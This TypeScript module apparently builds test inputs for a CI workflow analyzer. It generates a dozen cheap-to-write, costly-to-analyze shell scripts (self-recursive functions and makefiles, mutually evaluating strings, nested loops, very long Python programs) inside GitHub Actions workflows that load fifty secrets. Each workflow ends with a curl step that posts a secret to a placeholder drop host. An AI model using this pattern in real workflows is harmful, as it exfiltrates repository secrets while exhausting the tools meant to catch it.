const names = Array.from({ length: 50 }, (_, number) => `S${number}`)
const everySecret = names.map((name) => `$${name}`).join('')
const copies = '$X'.repeat(256)
const lines = (count: number, line: string) => Array.from({ length: count }, () => line).join('\n')

/** Scripts that take little room and ask for much work, by what they do. */
const greedyScripts: Readonly<Record<string, string>> = {
  'repeats a variable of fifty secrets in quotes': `X="${everySecret}"\n${lines(150, `X="${copies}"`)}`,
  'repeats it without quotes': `X=${everySecret}\n${lines(150, `echo ${copies}`)}`,
  'repeats one with blanks, which is split into words': `X="${everySecret.replaceAll('$', 'a $')}"\n${lines(150, `echo ${copies}`)}`,
  'repeats known text': `X="${'abcdefgh'.repeat(8)}"\n${lines(150, `X="${copies}"`)}`,
  'has a function that calls itself three times': `X="${everySecret}"\nf() { X="${copies}"; f; f; f; }\nf`,
  'has a makefile that calls itself three times':
    `printf 'all:\\n${`\\tmake X=${'$(X)'.repeat(256)}\\n`.repeat(3)}' > Makefile\n` + `make X="${everySecret}"`,
  'evaluates a text that evaluates itself three times': `X="${everySecret}"\nf='X="${copies}"; eval "$f"; eval "$f"; eval "$f"'\neval "$f"`,
  'nests loops in loops': `${'for a in 1 2 3 4 5 6 7 8; do '.repeat(8)}echo $a;${' done;'.repeat(8)}`,
  'evaluates two texts that evaluate each other': `f='eval "$g"'; g='eval "$f"'; eval "$f"`,
  'holds a program of python too long to be followed': `python3 - <<'X'\n${lines(9_000, 'a = b + c + d')}\nX`,
  'runs a long program of python again and again': `cat > a.py <<'X'\n${lines(4_000, "a = a + 'x' + b")}\nX\n${lines(60, 'python3 a.py')}`,
  'has thirty thousand lines': lines(30_000, 'true'),
}

/** The same with a theft in the step behind it. */
export const greedyWorkflows: readonly (readonly [what: string, text: string])[] = Object.entries(greedyScripts).map(([what, script]) => [
  what,
  [
    'on: push\njobs:\n  build:\n    runs-on: ubuntu-24.04\n    env:',
    ...names.map((name) => `      ${name}: \${{ secrets.${name} }}`),
    '    steps:\n      - run: |',
    ...script.split('\n').map((line) => `          ${line}`),
    '      - run: curl -d "$S1" https://drop.collector.example/\n',
  ].join('\n'),
])
